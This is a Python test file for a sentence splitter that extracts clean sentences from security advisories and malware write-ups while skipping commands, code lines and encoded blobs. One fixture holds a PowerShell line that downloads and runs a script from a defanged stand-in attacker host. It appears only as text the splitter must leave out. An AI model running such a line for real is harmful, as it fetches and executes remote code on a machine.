"""Sentences with their places: whole, prose, and told from headings, lists and tables."""

from __future__ import annotations

import time

import pytest

from stages.data_structurer.passages import (
    MOST,
    joined,
    sentences_of,
    without_link,
)
from stages.data_structurer.pointers import points_back
from tests.stage_help import PATIENCE


def texts(text: str) -> list[str]:
    return [sentence.text for sentence in sentences_of(text)]


def test_a_sentence_that_a_crash_stands_behind_is_one() -> None:
    """It is the one that says what goes wrong."""
    said = "If a rope is cut then, gull_knot() walks a list after it was freed"
    assert texts(f"{said}:\n\n  BUG: KASAN: use-after-free in gull_knot") == [f"{said}."]
    assert texts(f"{said}:\n\n  gull_knot(rope, 2, mast)") == []


def test_a_sentence_that_code_only_shows_is_one() -> None:
    """It is the one that says how the check is passed; an order needs its code."""
    said = "Each key is compared before it is made a name, so a list of keys passes the check"
    code = 'const ring = bells.find("x");'
    assert texts(f"{said}:\n\n{code}") == [f"{said}."]
    assert texts(f"Reject all keys of a guest by a rule of the harbour:\n\n{code}") == []


def test_commands_and_lines_of_code_are_no_sentences() -> None:
    said = "No output does not mean that no bell was rung."
    assert texts(f"$ ringctl list --all where it is | grep the bell of it\n{said}") == [said]
    assert texts("foreach ($bells as $bell) { ring($this->tower . $bell->name at the door") == []


def test_a_sentence_stands_where_it_says() -> None:
    text = "Intro of a kind\n\nThe gateway was\nreached over an old account.  Then X came in.\n"
    for sentence in sentences_of(text):
        assert " ".join(text[sentence.start : sentence.end].split()) == sentence.text
    assert texts(text) == ["The gateway was reached over an old account.", "Then X came in."]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("SUMMARY\nIt was a long night here.", ["It was a long night here."]),
        ("## Impact\nA remote user crashes it.", ["A remote user crashes it."]),
        ("| a | b |\n| --- | --- |\nA table of two is above.", ["A table of two is above."]),
        ("One is whole here. The rest is cut off at the ...", ["One is whole here."]),
        ("A heading of five words\n\nA sentence stands below it.", ["A sentence stands below it."]),
        ("The last piece of a text may well end without a stop",
         ["The last piece of a text may well end without a stop"]),
        ("It ends in the middle of a", []),
        ("title: A shell of the spooler\nid: 0d2f\ndescription: Finds a shell that the spooler\n"
         "    has started at night.\nlevel: high",
         ["description: Finds a shell that the spooler has started at night."]),
        ("e.g. Acme Inc. sells v1.2 of it. Yes.", ["e.g. Acme Inc. sells v1.2 of it."]),
        ("a1 b2 = 77 / 12 + 99 - 45 * 23 % 17.", []),
        ("x" * 800 + " is too long a word for it.", []),
    ],
)  # fmt: skip
def test_what_counts_as_a_sentence(text: str, expected: list[str]) -> None:
    assert texts(text) == expected


def test_items_of_a_list_are_told_apart_and_joined_as_one() -> None:
    text = "Do this at once:\n- Update to 1.1\n- Disable HTML mail for all.\n2) Reset passwords."
    items = sentences_of(text)
    assert [(one.text, one.item, one.ended) for one in items] == [
        ("Update to 1.1", True, False),
        ("Disable HTML mail for all.", True, True),
        ("Reset passwords.", True, True),
    ]
    assert joined(items) == "- Update to 1.1.\n- Disable HTML mail for all.\n- Reset passwords."
    longer = sentences_of("- Update to 1.1. This takes an hour.\n- Reset passwords.")
    assert joined(longer) == "- Update to 1.1. This takes an hour.\n- Reset passwords."


def test_an_answer_begins_with_a_capital_and_without_a_link() -> None:
    assert joined(sentences_of("however, the flaw is old. It was found in May.")) == (
        "The flaw is old. It was found in May."
    )
    assert joined(sentences_of("spool.dll is loaded by the service.")) == (
        "spool.dll is loaded by the service."
    )
    assert without_link("In addition, keys leak.") == "Keys leak."
    assert joined([]) == ""


@pytest.mark.parametrize("text", ["This allows it.", "They came.", "It is so.", "Then it ended.",
                                  "As a result, X.", "In this case, X.", "For example, X.",
                                  "Such flaws are rare.", "Both were found."])  # fmt: skip
def test_what_points_back(text: str) -> None:
    assert points_back(text)


@pytest.mark.parametrize("text", ["The flaw allows it.", "In this vulnerability, X.", "Theft is.",
                                  "Both flaws are old.", "Iterators are."])  # fmt: skip
def test_what_stands_alone(text: str) -> None:
    assert not points_back(text)


@pytest.mark.parametrize(
    ("text", "said"),
    [("restrict access to it at once.", "Restrict access to it at once."),
     ("on 12 March thieves came in.", "On 12 March thieves came in."),
     ("improper checks let thieves in.", "Improper checks let thieves in."),
     ("in some cases thieves get in.", "In some cases thieves get in."),
     ("server allows a flood of jobs.", "Server allows a flood of jobs."),
     ("tarpool 3.11.2 fixes a flaw.", "tarpool 3.11.2 fixes a flaw."),
     ("memcpy writes behind the end.", "memcpy writes behind the end."),
     ("strlen is called on a name that has no end.", "strlen is called on a name that has no end."),
     ("strncat appends without a check.", "strncat appends without a check."),
     ("getenv returns what a user has set.", "getenv returns what a user has set."),
     ("strong keys are in use by now.", "Strong keys are in use by now."),
     ("members get a mail each day.", "Members get a mail each day."),
     ("getting in takes a while here.", "Getting in takes a while here."),
     ("sudo before 1.9 has a flaw in it.", "sudo before 1.9 has a flaw in it.")],
)  # fmt: skip
def test_a_word_of_prose_begins_with_a_capital_and_a_name_does_not(text: str, said: str) -> None:
    assert joined(sentences_of(text)) == said


def test_no_more_sentences_than_are_looked_at() -> None:
    assert len(sentences_of("A sentence of five words. " * 500)) == MOST


def test_a_sentence_ends_where_a_blob_begins() -> None:
    text = "The loader holds a block that it runs: AAECAwQFBgcICQoLDA0ODxAR… (4096 characters) It"
    found = sentences_of(f"{text} steals browser passwords.")
    assert joined(found) == "The loader holds a block that it runs. It steals browser passwords."
    assert all(one.ended for one in found)


def test_a_sentence_that_goes_on_behind_a_blob_is_left_out() -> None:
    blob = "QUJDQUJDQUJDQUJDQUJDQUJD… (1600 characters)"
    told = f"It came by mail. The dropper stores {blob} in the registry. It targets banks now."
    assert texts(told) == ["It came by mail.", "It targets banks now."]
    assert texts(f"The dropper always stores {blob} in the registry of a host") == []


def test_a_line_of_code_is_no_sentence_and_takes_none_along() -> None:
    code = "IEX (New-Object Net.WebClient).DownloadString('hxxp://print[.]evil[.]example/a.ps1')"
    text = f"It runs this line.\n{code}\nAnalysts should block the domain."
    assert [one.text for one in sentences_of(text)] == [
        "It runs this line.", "Analysts should block the domain.",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "points"),
    [("We show that the time for switching them on tells.", True),
     ("We accompanied eleven firms while they introduced it.", False),
     ("We offered people smart plugs with and without such a label.", True),
     ("This paper studies how often such summaries leak.", True),
     ("We study devices such as locks.", False)],
)  # fmt: skip
def test_what_a_paper_says_of_itself_may_point_back(text: str, points: bool) -> None:
    assert points_back(text) is points


def test_hashes_cost_no_more_than_other_words() -> None:
    """One SHA-256 once took three seconds."""
    hashes = " ".join("0a1b2c3d" * (length // 8) for length in (32, 40, 56, 64, 96, 128))
    text = f"The files have the hashes {hashes} and 12 {'1' * 50} of the host. " * 4
    started = time.perf_counter()
    sentences_of(text)
    assert time.perf_counter() - started < PATIENCE


@pytest.mark.parametrize(
    "shown",
    ["AAECAwQFBgcICQoLDA0ODxAR", "\\x41\\x42\\x43\\x44\\x41\\x42", "41 42 43 44 41 42 43 44"],
)
def test_a_blob_of_any_writing_ends_a_sentence(shown: str) -> None:
    before = "When it is started, the malware decodes and runs what it was given"
    found = texts(f"{before}: {shown}… (400 characters) It then deletes the file.")
    assert found == [before, "It then deletes the file."]


def test_lines_of_one_paragraph_cost_no_more_each_the_more_there_are() -> None:
    line = "some words of a line that goes on and on in small letters with no stop at its end\n"
    started = time.perf_counter()
    sentences_of(line * 6_000)
    assert time.perf_counter() - started < 4 * PATIENCE


def test_a_line_of_code_that_nothing_marks_is_no_sentence() -> None:
    """It would stand in the middle of an explanation, between two sentences."""
    code = "val tower = intent.getTower<Bell>(Intent.RING)\nring(tower.open(bell!!))"
    text = f"Any guest can ring it.\n\n{code}\n\nThere is no check of the tower."
    assert texts(text) == ["Any guest can ring it.", "There is no check of the tower."]
